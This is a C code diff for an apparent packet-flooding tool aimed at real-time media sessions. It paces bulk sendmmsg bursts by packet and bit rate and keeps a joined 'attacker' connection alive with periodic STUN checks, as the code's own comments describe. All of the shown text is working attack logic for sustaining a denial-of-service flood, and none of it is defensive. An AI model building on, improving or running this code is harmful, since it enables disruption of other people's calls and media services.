@@ -38,10 +38,11 @@ void flood_template(struct flood *f, const uint8_t *data, int length) {
     f->length[f->templates++] = length;
 }
 
-/* What keeps the flooder's own connection alive: STUN checks, sent now and then through the first socket. */
-void flood_check(struct flood *f, const uint8_t *data, int length) {
+/* What keeps a joined attacker's connection alive: its STUN checks, sent now and then through its own socket. */
+void flood_check(struct flood *f, int fd, const uint8_t *data, int length) {
     if (f->checks == CHECKS || length > SLOT)
         return;
+    f->check_fd = fd;
     memcpy(f->check[f->checks], data, (size_t)length);
     f->check_length[f->checks++] = length;
 }
@@ -139,7 +140,7 @@ static void drain(struct flood *f, int fd) {
         for (int i = 0; i < got; i++) {
             const uint8_t *data = f->in[i];
             f->counts.back++;
-            f->counts.bytes_back += messages[i].msg_len;
+            f->counts.bytes_back += messages[i].msg_len + HEADERS;
             if (messages[i].msg_len > 12 && data[0] >> 6 == 2 && get32(data + 8) == f->plan.slot_ssrc)
                 f->newest = get16(data + 2);
         }
@@ -158,7 +159,7 @@ static int send_some(struct flood *f, int count) {
     }
     int sent = sendmmsg(f->fd[at], messages, (unsigned)count, MSG_DONTWAIT);
     for (int i = 0; i < sent; i++)
-        f->counts.bytes_sent += vectors[i].iov_len;
+        f->counts.bytes_sent += vectors[i].iov_len + HEADERS;
     return sent;
 }
 
@@ -173,13 +174,14 @@ uint64_t flood_turn(struct flood *f, uint64_t now) {
     if (f->checks && now >= f->check_at) {
         int which = f->next_check++ % f->checks;
         f->check_at = now + CHECK_EVERY_NS;
-        (void)!send(f->fd[0], f->check[which], (size_t)f->check_length[which], MSG_DONTWAIT);
+        (void)!send(f->check_fd, f->check[which], (size_t)f->check_length[which], MSG_DONTWAIT);
     }
     if (f->counts.sent >= plan->total)
         return now + 1000000;
-    double interval = 1e9 / plan->packets_per_s;
+    double interval = 1e9 / plan->packets_per_s, bit = 1e9 / plan->bits_per_s;
     uint64_t due = (uint64_t)((double)(now - f->began) / interval) + 1, done = f->counts.sent + f->counts.failed;
-    if (done < due) {
+    uint64_t paid = f->began + (uint64_t)(8 * (double)f->counts.bytes_sent * bit);
+    if (done < due && paid <= now) {
         int count = due - done < TURN ? (int)(due - done) : TURN;
         if (plan->total - f->counts.sent < (uint64_t)count)
             count = (int)(plan->total - f->counts.sent);
@@ -187,6 +189,8 @@ uint64_t flood_turn(struct flood *f, uint64_t now) {
         f->counts.sent += sent > 0 ? (uint64_t)sent : 0;
         f->counts.failed += sent > 0 ? 0 : 1;
         done = f->counts.sent + f->counts.failed;
+        paid = f->began + (uint64_t)(8 * (double)f->counts.bytes_sent * bit);
     }
-    return f->began + (uint64_t)((double)done * interval);
+    uint64_t next = f->began + (uint64_t)((double)done * interval);
+    return next > paid ? next : paid;
 }
